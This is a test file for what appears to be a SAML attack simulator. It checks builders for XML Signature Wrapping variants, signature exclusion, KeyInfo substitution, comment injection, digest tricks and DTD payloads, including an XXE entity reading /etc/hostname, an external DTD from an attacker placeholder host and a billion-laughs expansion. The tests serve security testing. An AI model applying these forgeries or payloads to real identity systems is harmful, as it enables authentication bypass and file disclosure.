/**
 * The attack builders do what their sources define: SAMLRaider's XSW placements, the CVE shapes,
 * and they are pure (same input, same bytes).
 */
import { describe, expect, it } from 'vitest';
import { isSimError } from '../../../core/errors.ts';
import { deviceAssertionInput, key, pem } from '../../../../test/support/entra-fixture.ts';
import { uuidAsBase64Guid } from '../../encoding/guid.ts';
import { ALG, NS } from '../../xml/namespaces.ts';
import { attributeOf, childElements, firstChild, parseXml } from '../../xml/parse-xml.ts';
import { buildAssertion } from '../build-assertion.ts';
import { signAssertion } from '../sign-assertion.ts';
import { applySamlAttack, SAML_ATTACK_NAMES, SAML_ATTACKS, samlAttack } from './catalog.ts';
import { envelopedSha256Digest } from './digest.ts';
import { EVIL_ASSERTION_ID } from './edit.ts';
import type { AttackInput } from './types.ts';

const IDP_CRT = pem('idp-signing.crt');
const unsigned = buildAssertion(deviceAssertionInput());
const signed = signAssertion(unsigned, key('idp-signing.key'), IDP_CRT);
const ID = attributeOf(parseXml(signed, 't').documentElement, 'AssertionID')!;
const EVIL_SID = 'S-1-5-21-666666666-666666666-666666666-1000';
const input: AttackInput = {
  signed,
  evil: {
    attributes: {
      primarysid: EVIL_SID,
      onpremobjectguid: uuidAsBase64Guid('deadbeef-dead-4bad-8bad-deadbeefdead'),
    },
  },
  tools: {
    signAsIssuer: (xml, opts) => signAssertion(xml, key('idp-signing.key'), IDP_CRT, opts),
    signAsAttacker: (xml) =>
      signAssertion(xml, key('attacker-signing.key'), pem('attacker-signing.crt')),
  },
};

const attack = (name: string) => applySamlAttack(name, input);
const doc = (name: string) => parseXml(attack(name), name).documentElement;
const assertions = (el: Element) => Array.from(el.getElementsByTagNameNS(NS.saml11, 'Assertion'));
const id = (el: Element) => attributeOf(el, 'AssertionID');
const hasSignature = (el: Element) => firstChild(el, NS.ds, 'Signature') !== undefined;
const sidOf = (el: Element) =>
  childElements(el, NS.saml11, 'AttributeStatement')
    .flatMap((s) => childElements(s, NS.saml11, 'Attribute'))
    .find((a) => attributeOf(a, 'AttributeName') === 'primarysid')?.textContent;

describe('the attack catalogue', () => {
  it('has unique names and fixture names, each with a source', () => {
    expect(new Set(SAML_ATTACK_NAMES).size).toBe(SAML_ATTACKS.length);
    expect(new Set(SAML_ATTACKS.map((a) => a.fixture)).size).toBe(SAML_ATTACKS.length);
    for (const a of SAML_ATTACKS) {
      expect(a.fixture).toMatch(/^[a-z0-9]+(-[a-z0-9]+)*$/);
      expect(a.source.length).toBeGreaterThan(5);
    }
  });

  it.each(SAML_ATTACK_NAMES)('%s changes the document and is pure', (name) => {
    const once = attack(name);
    expect(once).not.toBe(signed);
    expect(attack(name)).toBe(once);
  });

  it('an unknown name is a usage error that lists the names', () => {
    try {
      samlAttack('xsw9');
      expect.unreachable();
    } catch (e) {
      expect(isSimError(e, 'ERR_USAGE')).toBe(true);
      expect((e as Error & { hint?: string }).hint).toContain('xsw1');
    }
  });

  it('refuses to start from an unsigned assertion', () => {
    expect(() => applySamlAttack('xsw1', { ...input, signed: unsigned })).toThrow(
      /signed SAML 1.1 saml:Assertion/,
    );
  });
});

describe('XSW1–XSW8 place the parts where SAMLRaider does', () => {
  it('XSW1: evil root; unsigned original copy inside its Signature', () => {
    const root = doc('xsw1');
    expect([id(root), sidOf(root)]).toEqual([EVIL_ASSERTION_ID, EVIL_SID]);
    const copy = childElements(firstChild(root, NS.ds, 'Signature')!, NS.saml11, 'Assertion')[0]!;
    expect([id(copy), hasSignature(copy), sidOf(copy)]).toEqual([ID, false, deviceSid()]);
  });

  it('XSW2: evil root; unsigned original copy just before its Signature', () => {
    const root = doc('xsw2');
    const signature = firstChild(root, NS.ds, 'Signature')!;
    const before = signature.previousSibling as Element;
    expect([id(root), id(before), hasSignature(before)]).toEqual([EVIL_ASSERTION_ID, ID, false]);
  });

  it('XSW3: Response[evil (no signature), signed original]', () => {
    const root = doc('xsw3');
    expect([root.namespaceURI, root.localName]).toEqual([NS.samlp11, 'Response']);
    const [evil, original] = childElements(root, NS.saml11, 'Assertion');
    expect([id(evil!), hasSignature(evil!), sidOf(evil!)]).toEqual([
      EVIL_ASSERTION_ID,
      false,
      EVIL_SID,
    ]);
    expect([id(original!), hasSignature(original!)]).toEqual([ID, true]);
  });

  it('XSW4: Response[evil[…, signed original]]', () => {
    const [evil] = childElements(doc('xsw4'), NS.saml11, 'Assertion');
    const inner = childElements(evil!, NS.saml11, 'Assertion')[0]!;
    expect([id(evil!), id(inner), hasSignature(inner)]).toEqual([EVIL_ASSERTION_ID, ID, true]);
  });

  it('XSW5: Response[evil keeping the Signature, unsigned original copy last]', () => {
    const [evil, copy] = childElements(doc('xsw5'), NS.saml11, 'Assertion');
    expect([id(evil!), hasSignature(evil!), id(copy!), hasSignature(copy!)]).toEqual([
      EVIL_ASSERTION_ID,
      true,
      ID,
      false,
    ]);
  });

  it('XSW6: Response[evil[Signature[unsigned original copy]]]', () => {
    const [evil] = childElements(doc('xsw6'), NS.saml11, 'Assertion');
    const copy = childElements(firstChild(evil!, NS.ds, 'Signature')!, NS.saml11, 'Assertion')[0]!;
    expect([id(evil!), id(copy), hasSignature(copy)]).toEqual([EVIL_ASSERTION_ID, ID, false]);
  });

  it('XSW7: Response[Extensions[evil with the same id], signed original]', () => {
    const root = doc('xsw7');
    const extensions = childElements(root).find((e) => e.localName === 'Extensions')!;
    expect(extensions.namespaceURI ?? null).toBeNull();
    const evil = childElements(extensions, NS.saml11, 'Assertion')[0]!;
    expect([id(evil), hasSignature(evil), sidOf(evil)]).toEqual([ID, false, EVIL_SID]);
    expect(hasSignature(childElements(root, NS.saml11, 'Assertion')[0]!)).toBe(true);
  });

  it('XSW8: Response[evil[Signature[Object[unsigned original copy]]]]', () => {
    const [evil] = childElements(doc('xsw8'), NS.saml11, 'Assertion');
    const object = childElements(firstChild(evil!, NS.ds, 'Signature')!).find(
      (e) => e.localName === 'Object',
    )!;
    const copy = childElements(object, NS.saml11, 'Assertion')[0]!;
    expect([id(evil!), sidOf(evil!), id(copy), hasSignature(copy)]).toEqual([
      ID,
      EVIL_SID,
      ID,
      false,
    ]);
  });
});

describe('the other shapes', () => {
  it('signature exclusion: no Signature, evil claims', () => {
    const root = doc('signature-exclusion');
    expect([hasSignature(root), sidOf(root)]).toEqual([false, EVIL_SID]);
  });

  it('KeyInfo substitution: evil claims, the attacker certificate in KeyInfo', () => {
    const xml = attack('keyinfo-substitution');
    expect(sidOf(parseXml(xml, 't').documentElement)).toBe(EVIL_SID);
    expect(xml).toContain(pem('attacker-signing.crt').split('\n')[1]!);
  });

  it('comment injection splits only accounttype, before its last character', () => {
    const xml = attack('comment-injection');
    expect(xml).toContain('>D<!---->J<');
    expect(xml.match(/<!---->/g)).toHaveLength(1);
  });

  it('envelopedSha256Digest is the DigestValue the signer computes', () => {
    const root = parseXml(signed, 't').documentElement;
    const digestValue = root.getElementsByTagNameNS(NS.ds, 'DigestValue').item(0)!.textContent;
    expect(envelopedSha256Digest(root)).toBe(digestValue);
  });

  it('DigestValue comment: the evil root’s digest in a comment before the original text', () => {
    const root = doc('digest-value-comment');
    const digestValue = root.getElementsByTagNameNS(NS.ds, 'DigestValue').item(0)!;
    expect(digestValue.firstChild!.nodeType).toBe(8);
    expect(digestValue.firstChild!.nodeValue).toBe(envelopedSha256Digest(root));
    expect(digestValue.lastChild!.nodeValue).toBe(
      parseXml(signed, 't').documentElement.getElementsByTagNameNS(NS.ds, 'DigestValue').item(0)!
        .textContent,
    );
  });

  it('multiple SignedInfo: the second references the evil root with its digest', () => {
    const root = doc('multiple-signed-info');
    const infos = childElements(firstChild(root, NS.ds, 'Signature')!, NS.ds, 'SignedInfo');
    expect(infos).toHaveLength(2);
    const ref = firstChild(infos[1]!, NS.ds, 'Reference')!;
    expect(attributeOf(ref, 'URI')).toBe(`#${EVIL_ASSERTION_ID}`);
    expect(firstChild(ref, NS.ds, 'DigestValue')!.textContent).toBe(envelopedSha256Digest(root));
    const copy = assertions(root).find((a) => id(a) === ID)!;
    expect((copy.parentNode as Element).localName).toBe('Advice');
  });

  it('multiple roots: signed first, evil second', () => {
    const xml = attack('multiple-roots');
    expect(xml.startsWith(signed)).toBe(true);
    expect(xml.slice(signed.length)).toContain(EVIL_ASSERTION_ID);
  });

  it.each([
    ['dtd-external-subset', /^<!DOCTYPE saml:Assertion SYSTEM "http:\/\/attacker\.invalid\//],
    ['dtd-external-entity', /<!ENTITY xxe SYSTEM "file:\/\/\/etc\/hostname">.*<ds:KeyName>&xxe;/s],
    ['dtd-entity-expansion', /<!ENTITY lol9 "(&lol8;){10}">.*<ds:KeyName>&lol9;/s],
  ])('%s', (name, shape) => {
    expect(attack(name)).toMatch(shape);
  });

  it.each([
    ['transform-xpath', 'http://www.w3.org/TR/1999/REC-xpath-19991116'],
    ['transform-xslt', 'http://www.w3.org/TR/1999/REC-xslt-19991116'],
  ])('%s sits between enveloped-signature and exc-c14n', (name, algorithm) => {
    const transforms = doc(name).getElementsByTagNameNS(NS.ds, 'Transform');
    expect(Array.from(transforms).map((t) => t.getAttribute('Algorithm'))).toEqual([
      ALG.envelopedSignature,
      algorithm,
      ALG.excC14n,
    ]);
  });

  it('SHA-1: re-signed by the issuer with rsa-sha1 and sha1', () => {
    const xml = attack('algorithm-sha1');
    expect(xml).toContain(ALG.rsaSha1);
    expect(xml).toContain(`DigestMethod Algorithm="${ALG.sha1}"`);
  });

  it('duplicate IDs: the evil root and the Advice copy share the signed AssertionID', () => {
    const root = doc('duplicate-ids');
    const all = [root, ...assertions(root)];
    expect(all.map(id)).toEqual([ID, ID]);
    expect(all.map(sidOf)).toEqual([EVIL_SID, deviceSid()]);
  });
});

function deviceSid(): string {
  return sidOf(parseXml(signed, 't').documentElement)!;
}
